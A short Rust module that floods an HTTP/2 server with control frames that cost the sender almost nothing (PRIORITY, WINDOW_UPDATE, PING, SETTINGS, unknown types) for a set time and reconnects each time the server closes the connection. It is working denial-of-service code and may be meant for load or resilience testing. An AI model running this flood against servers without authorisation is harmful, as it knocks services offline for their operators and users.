//! Frames that carry no work, as fast as a connection takes them.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames of one write.
const AT_ONCE: usize = 1_000;

/// Every kind of frame that costs its sender next to nothing, by name.
pub(super) fn kinds() -> [(&'static str, Vec<u8>); 5] {
    [
        ("PRIORITY", frame(0x2, 3, &[0, 0, 0, 0, 7])),
        ("WINDOW_UPDATE", frame(0x8, 0, &[0, 0, 0, 1])),
        ("PING", frame(0x6, 0, &[0; 8])),
        ("SETTINGS", frame(0x4, 0, &[])),
        ("unknown", frame(0x77, 0, &[1, 2, 3])),
    ]
}

fn frame(kind: u8, stream: u8, payload: &[u8]) -> Vec<u8> {
    // No payload above has as many bytes as a length of one byte holds.
    let length = payload.len() as u8;
    [&[0, 0, length, kind, 0, 0, 0, 0, stream], payload].concat()
}

/// Sends a frame for a time, on one connection or, as often as the server ends it, on a new one. Says how many it came to.
pub(super) async fn flood(address: &str, frame: &[u8], time: Duration, again: bool) -> anyhow::Result<String> {
    let until = Instant::now() + time;
    let piece = frame.repeat(AT_ONCE);
    let (mut pieces, mut connections) = (0, 0);
    while connections == 0 || (again && Instant::now() < until) {
        connections += 1;
        let mut connection = TcpStream::connect(address).await?;
        // Whatever ends a connection, the flood goes on with the next one.
        let _ended = tokio::time::timeout_at(until.into(), send(&mut connection, &piece, &mut pieces)).await;
    }
    Ok(format!("{} thousand frames written, {connections} connections", pieces * AT_ONCE / 1_000))
}

/// Sends until the connection ends; what comes back is read, so that nothing else ends it.
async fn send(connection: &mut TcpStream, piece: &[u8], pieces: &mut usize) -> std::io::Result<()> {
    let (mut read, mut write) = connection.split();
    write.write_all(PREFACE).await?;
    write.write_all(&frame(0x4, 0, &[])).await?;
    let sending = async {
        loop {
            write.write_all(piece).await?;
            *pieces += 1;
        }
    };
    let reading = async {
        let mut buffer = [0; 64 * 1024];
        while read.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    tokio::select! { ended = sending => ended, ended = reading => ended }
}
